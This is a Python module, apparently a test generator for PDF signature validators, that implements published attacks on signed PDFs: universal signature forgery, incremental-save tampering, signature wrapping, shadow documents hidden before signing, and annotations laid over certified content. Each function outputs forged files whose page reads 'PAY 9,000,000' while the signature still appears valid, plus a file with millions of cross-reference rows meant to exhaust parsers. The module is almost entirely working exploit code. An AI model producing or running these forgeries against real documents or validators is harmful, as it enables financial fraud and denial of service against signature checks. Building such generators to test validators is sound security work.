# mypy: disable-error-code="no-untyped-call"
"""Attacks on signed PDFs, built from their published descriptions.

Universal forgery, incremental saving and wrapping: "1 Trillion Dollar Refund" (CCS 2019).
Shadow documents: "Shadow Attacks" (NDSS 2021). Notes and stamps after certification: "Breaking
the Specification: PDF Certification" (IEEE S&P 2021).
"""

import io
import re
import struct
import zlib
from collections.abc import Callable, Iterator, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields

FORGED = b"0 g 70 590 40 40 re f BT /F1 40 Tf 120 600 Td (PAY 9,000,000) Tj ET "
Attack = Callable[[bytes], bytes]


class Parts:
    """Where in a signed file the signature lies, and the numbers of its objects."""

    def __init__(self, pdf: bytes) -> None:
        opening = pdf.rindex(b"/Contents <") + len(b"/Contents ")
        self.hole = slice(opening, pdf.index(b">", opening) + 1)
        self.signature = int(re.findall(rb"(\d+) 0 obj", pdf[:opening])[-1])
        self.start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
        with pikepdf.open(io.BytesIO(pdf)) as paper:
            self.root = paper.Root.objgen[0]
            self.page = paper.pages[0].obj.objgen[0]
            self.page_body = paper.pages[0].obj.unparse(resolved=True)
            self.content = paper.pages[0].obj.Contents.objgen[0]
            self.size = int(paper.trailer.Size)
            identity = paper.trailer.ID[0]
            self.identity = bytes(identity)

    def byte_range(self, pdf: bytes) -> re.Match[bytes]:
        """The last one in the file, with the room behind it."""
        return list(re.finditer(rb"/ByteRange \[[^\]]*\] *", pdf))[-1]


def in_place(pdf: bytes, span: slice, new: bytes) -> bytes:
    """The file with other bytes of the same number in one place."""
    room = span.stop - span.start
    assert len(new) <= room, "an attacker has no more room"
    return pdf[: span.start] + new.ljust(room) + pdf[span.stop :]


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """The body of a stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def updated(
    pdf: bytes,
    objects: Mapping[int, bytes],
    *,
    way: str = "stream",
    root: int | None = None,
    start: int | None = None,
) -> bytes:
    """The file with an update added that holds other bodies for these objects.

    `way` is how they are found: "stream" and "table" (as the standard has it), "none" (objects
    alone), "trailer" (a trailer without a table), "marker" (only an end of file).
    """
    parts = Parts(pdf)
    added, offsets = b"\n", {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(pdf) + len(added)
        added += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at = len(pdf) + len(added)
    size = max(parts.size, *(number + 2 for number in objects))
    trailer = b"/Root %d 0 R /Size %d /Prev %d /ID [<%s> <%s>]" % (
        root or parts.root,
        size,
        parts.start,
        parts.identity.hex().encode(),
        b"00" * 16,
    )
    if way == "stream":
        own = size - 1
        rows = b"".join(struct.pack(">BIH", 1, offset, 0) for offset in (*offsets.values(), at))
        index = b" ".join(b"%d 1" % number for number in (*offsets, own))
        entries = b"/Type /XRef /W [1 4 2] /Index [%s] %s" % (index, trailer)
        added += b"%d 0 obj\n%s\nendobj\n" % (own, stream(rows, entries))
    elif way == "table":
        added += b"xref\n" + b"".join(
            b"%d 1\n%010d 00000 n \n" % (number, offset) for number, offset in offsets.items()
        )
        added += b"trailer\n<< %s >>\n" % trailer
    elif way == "trailer":
        added += b"trailer\n<< %s >>\n" % trailer
    if way in ("stream", "table", "trailer"):
        added += b"startxref\n%d\n" % (at if start is None else start)
    return pdf + added + (b"" if way == "none" else b"%%EOF\n")


def often_updated(pdf: bytes, times: int) -> bytes:
    """A file with many small updates behind its signature, each compared with all before it."""
    parts = Parts(pdf)
    number, start, at, added = parts.size + 1, parts.start, len(pdf), []
    for _ in range(times):
        one = b"%d 0 obj\n%s\nendobj\n" % (number, stream(FORGED))
        table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Root %d 0 R /Size %d /Prev %d >>\n"
        one += table % (number, at, parts.root, number + 1, start)
        start = at + one.index(b"xref\n")
        one += b"startxref\n%d\n%%%%EOF\n" % start
        at += len(one)
        added.append(one)
    return pdf + b"".join(added)


def endless_table(rows: int = 5_000_000) -> bytes:
    """A small file whose packed table of objects has millions of rows."""
    packed = zlib.compress(bytes(rows * 3), 9)
    entries = b"/Type /XRef /W [1 1 1] /Size %d /Root 1 0 R /Filter /FlateDecode" % rows
    body = b"%PDF-1.7\n"
    return body + b"1 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(packed, entries),
        len(body),
    )


# Universal forgery: what a validator needs is taken away, so that it cannot fail.

FORGED_RANGES = (
    b"/ByteRange null", b"/ByteRange []", b"/ByteRange [0]", b"/ByteRange [0 0 0 0]",
    b"/ByteRange [0 -1 -1 -1]", b"/ByteRange [0 1e9 0 1]", b"/ByteRange (x)", b"",
    b"/ByteRange [0 99999999999 0 1]", b"/ByteRange [/A /B /C /D]", b"/ByteRange 0",
)  # fmt: skip
FORGED_CONTENTS = (b"null", b"<>", b"<00>", b"()", b"0", b"[]", b"", b"<30", b"true")
FORGED_NAMES = ("/Contents ", "/Filter ", "/SubFilter ", "/Type /Sig", "/ETSI.CAdES.detached")


def forged_in_place(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """The signature's dictionary falsified where it stands, with the page changed as well."""
    parts = Parts(pdf)
    pdf = _page_changed_in_place(pdf, parts)
    found = parts.byte_range(pdf)
    for new in FORGED_RANGES:
        yield f"range {new!r}", in_place(pdf, slice(found.start(), found.end()), new)
    for new in FORGED_CONTENTS:
        yield f"contents {new!r}", in_place(pdf, parts.hole, new)
    for name in FORGED_NAMES:
        at = pdf.rindex(name.encode())
        gone = name.replace(name[1], "Z", 1).encode()
        yield f"without {name}", in_place(pdf, slice(at, at + len(gone)), gone)


def _page_changed_in_place(pdf: bytes, parts: Parts) -> bytes:
    """Another content in the room of the page's packed one, which no longer says it is packed."""
    begin = re.search(rb"\n%d 0 obj\b" % parts.content, pdf)
    assert begin
    start = pdf.index(b"stream", begin.end()) + len(b"stream")
    start += 2 if pdf[start : start + 2] == b"\r\n" else 1
    end = pdf.index(b"endstream", start)
    head = slice(begin.end(), start)
    pdf = in_place(pdf, head, pdf[head].replace(b"/Filter", b"/Filtex"))
    return in_place(pdf, slice(start, end), FORGED)


def forged_by_update(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """The signature's object replaced in an update that also changes the page."""
    parts = Parts(pdf)
    page = {parts.content: stream(FORGED)}
    contents = pdf[parts.hole]
    head = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
    bodies = {
        "nothing": head + b">>",
        "no contents": head + b"/ByteRange [0 10 20 10] >>",
        "no range": head + b"/Contents " + contents + b" >>",
        "old range": head + b"/Contents " + contents + parts.byte_range(pdf)[0] + b">>",
        "range of all": head + b"/Contents " + contents + b"/ByteRange [0 %d %d 0] >>" % (
            len(pdf), len(pdf)
        ),
        "null": b"null",
        "number": b"42",
    }  # fmt: skip
    for name, body in bodies.items():
        yield name, updated(pdf, {**page, parts.signature: body})


# Incremental saving: something is added behind the signature.

WAYS = ("stream", "table", "trailer", "marker", "none")


def saved_on(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """The page changed in an update, in all ways a lenient reader would find it."""
    parts = Parts(pdf)
    page = {parts.content: stream(FORGED)}
    copied = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents "
    copied += pdf[parts.hole] + parts.byte_range(pdf)[0] + b">>"
    for way in WAYS:
        yield f"page, {way}", updated(pdf, page, way=way)
        yield f"page and signature, {way}", updated(pdf, {**page, parts.signature: copied}, way=way)
    yield "old start", updated(pdf, page, start=parts.start)
    yield "no start", updated(pdf, page, start=len(pdf) + 10**6)
    root = parts.size + 5
    yield "other root", updated(pdf, {root: b"<< /Type /Catalog >>"}, root=root)
    yield "comment", pdf + b"% nothing but a remark\n"
    yield (
        "page object",
        updated(pdf, {parts.page: re.sub(rb"/Contents \d+ 0 R", b"", parts.page_body)}),
    )


# Wrapping: what was signed is moved, and something unsigned put where it was.


def wrapped(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """The signed tail moved to the end; what lies between is named by a second ByteRange."""
    parts = Parts(pdf)
    found = parts.byte_range(pdf)
    tail = pdf[parts.hole.stop :]
    for name, before in (("after", b""), ("padded", b" " * 2000)):
        for end in (b">> endobj\n", b""):
            between = before + end
            if end:
                between += b"%d 0 obj\n%s\nendobj\n" % (parts.content, stream(FORGED))
            # The table stands where the signed "startxref" says it does.
            between = between.ljust(max(0, parts.start - parts.hole.stop))
            table = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (
                parts.content,
                parts.hole.stop + len(before) + len(end),
            )
            between += table + b"trailer\n<< /Root %d 0 R /Size %d >>\n" % (parts.root, parts.size)
            moved = parts.hole.stop + len(between) + 60
            ranged = b" /ByteRange [0 %d %d %d] " % (parts.hole.start, moved, len(tail))
            whole = ranged.ljust(60) + between
            yield f"moved, {name}, {bool(end)}", pdf[: parts.hole.stop] + whole + tail
    longer = in_place(
        pdf,
        slice(found.start(), found.end()),
        b"/ByteRange [0 %d %d %d]" % (parts.hole.start, parts.hole.stop + 500, len(tail)),
    )
    yield "range shifted", longer[: parts.hole.stop] + b" " * 500 + longer[parts.hole.stop :]
    yield "file put before", b"%PDF-1.7\n%forged\n" + pdf
    yield "hole widened", pdf[: parts.hole.stop - 1] + b"00" * 50 + pdf[parts.hole.stop - 1 :]


# Shadow documents: prepared before somebody signs, turned afterwards.


def shadow_document(*, form: bool = True) -> bytes:
    """A paper with a hidden content, an overlay, a form field, and a second tree of pages."""
    paper = pikepdf.new()
    font = paper.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name("/Times-Roman"))
    )
    cover = paper.make_stream(b"1 g 0 0 595 842 re f", Type=Name.XObject, Subtype=Name.Form)
    cover.BBox = Array([0, 0, 595, 842])
    seen = paper.make_stream(FORGED + b" /Cover Do BT /F1 40 Tf 60 600 Td (PAY 9) Tj ET")
    resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Cover=cover))
    for content in (seen, paper.make_stream(FORGED)):
        paper.pages.append(
            pikepdf.Page(
                paper.make_indirect(
                    Dictionary(
                        Type=Name.Page,
                        MediaBox=Array([0, 0, 595, 842]),
                        Resources=resources,
                        Contents=content,
                        Annots=paper.make_indirect(Array([])),
                    )
                )
            )
        )
    hidden = paper.pages[1].obj
    paper.Root.Pages.Kids = Array([paper.pages[0].obj])
    paper.Root.Pages.Count = 1
    tree = Dictionary(Type=Name.Pages, Kids=Array([hidden]), Count=1)
    paper.Root.Shadow = paper.make_indirect(tree)
    note = paper.make_indirect(_box(paper, Name.Stamp, b"1 g 0 0 200 100 re f"))
    if form:
        value = paper.make_indirect(_box(paper, Name.Widget, b"BT /F1 9 Tf (100) Tj ET"))
        value.update(
            {"/FT": Name.Tx, "/T": String("price"), "/V": String("100"), "/DA": String("/F1 9 Tf")}
        )
        paper.Root.AcroForm = paper.make_indirect(
            Dictionary(Fields=Array([value]), DR=Dictionary(Font=Dictionary(F1=font)))
        )
        paper.pages[0].Annots = paper.make_indirect(Array([note, value]))
    kept = io.BytesIO()
    paper.save(kept, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    writer = IncrementalPdfFileWriter(io.BytesIO(kept.getvalue()))
    place = fields.SigFieldSpec("victim", on_page=0, box=(60, 60, 200, 120))
    fields.append_signature_field(writer, place)
    fields.append_signature_field(
        writer, fields.SigFieldSpec("second", on_page=0, box=(300, 60, 440, 120))
    )
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def _box(paper: pikepdf.Pdf, kind: pikepdf.Object, drawn: bytes) -> Dictionary:
    seen = paper.make_stream(drawn, Type=Name.XObject, Subtype=Name.Form)
    seen.BBox = Array([0, 0, 200, 100])
    return Dictionary(
        Type=Name.Annot, Subtype=kind, Rect=Array([60, 580, 260, 680]), AP=Dictionary(N=seen), F=4
    )


def turned(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """The hidden content shown, in an update: hide, replace, hide and replace."""

    def change(act: Callable[[IncrementalPdfFileWriter, generic.DictionaryObject], None]) -> bytes:
        writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
        act(writer, writer.root["/Pages"]["/Kids"][0].get_object())
        target = io.BytesIO()
        writer.write(target)
        return target.getvalue()

    def uncover(writer: IncrementalPdfFileWriter, page: generic.DictionaryObject) -> None:
        cover = page["/Resources"]["/XObject"].raw_get("/Cover").get_object()
        cover._data = b""
        cover._encoded_data = None
        writer.mark_update(page["/Resources"]["/XObject"].raw_get("/Cover"))

    def unresource(writer: IncrementalPdfFileWriter, page: generic.DictionaryObject) -> None:
        del page["/Resources"]["/XObject"]
        writer.update_container(page["/Resources"])

    def unstamp(writer: IncrementalPdfFileWriter, page: generic.DictionaryObject) -> None:
        del page["/Annots"].get_object()[0]
        writer.update_container(page["/Annots"].get_object())

    def refont(writer: IncrementalPdfFileWriter, page: generic.DictionaryObject) -> None:
        font = page["/Resources"]["/Font"]["/F1"].get_object()
        font["/BaseFont"] = generic.NameObject("/ZapfDingbats")
        writer.mark_update(page["/Resources"]["/Font"].raw_get("/F1"))

    def reroot(writer: IncrementalPdfFileWriter, page: generic.DictionaryObject) -> None:
        assert page
        writer.root["/Pages"] = writer.root.raw_get("/Shadow")
        writer.update_root()

    def repage(writer: IncrementalPdfFileWriter, page: generic.DictionaryObject) -> None:
        page["/Contents"] = writer.root["/Shadow"]["/Kids"][0].get_object().raw_get("/Contents")
        writer.update_container(page)

    for act in (uncover, unresource, unstamp, refont, reroot, repage):
        yield act.__name__, change(act)


def refilled(pdf: bytes) -> bytes:
    """The value of the form's field changed, as filling in a form does it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/V"] = generic.pdf_string("9,000,000")
    writer.update_container(field)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


# After certification: notes, stamps and signature fields that cover what was certified.

NOTES = ("/FreeText", "/Stamp", "/Ink", "/Redact", "/Square", "/Highlight", "/Line", "/Widget")


def annotated(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """A note of each kind laid over the page."""
    for kind in NOTES:
        writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
        writer.register_annotation(
            writer.find_page_for_modification(0)[0], writer.add_object(_cover(writer, kind))
        )
        target = io.BytesIO()
        writer.write(target)
        yield kind, target.getvalue()


def with_sneaky_field(pdf: bytes) -> bytes:
    """An empty signature field whose looks cover the page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    cover_by_field(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def cover_by_field(writer: IncrementalPdfFileWriter) -> None:
    """Add a signature field that looks like a price."""
    place = fields.SigFieldSpec("sneaky", on_page=0, box=(60, 580, 300, 640))
    fields.append_signature_field(writer, place)
    field = writer.root["/AcroForm"]["/Fields"][-1].get_object()
    field["/AP"] = _cover(writer, "/Stamp")["/AP"]


def move_field(writer: IncrementalPdfFileWriter) -> None:
    """Move the place of the second signature over the text."""
    for field in writer.root["/AcroForm"]["/Fields"]:
        one = field.get_object()
        if "/V" not in one and one.get("/FT") == "/Sig":
            one["/Rect"] = generic.ArrayObject([generic.FloatObject(n) for n in (0, 0, 595, 842)])
            writer.update_container(one)


def _cover(writer: IncrementalPdfFileWriter, kind: str) -> generic.DictionaryObject:
    seen = generic.StreamObject(stream_data=b"1 g 0 0 200 100 re f 0 g 20 20 60 60 re f")
    seen["/Type"], seen["/Subtype"] = generic.NameObject("/XObject"), generic.NameObject("/Form")
    seen["/BBox"] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 100)])
    return generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject(kind),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/Contents"): generic.pdf_string("9,000,000"),
            generic.NameObject("/Rect"): generic.ArrayObject(
                [generic.FloatObject(n) for n in (60, 580, 260, 680)]
            ),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): writer.add_object(seen)}
            ),
        }
    )
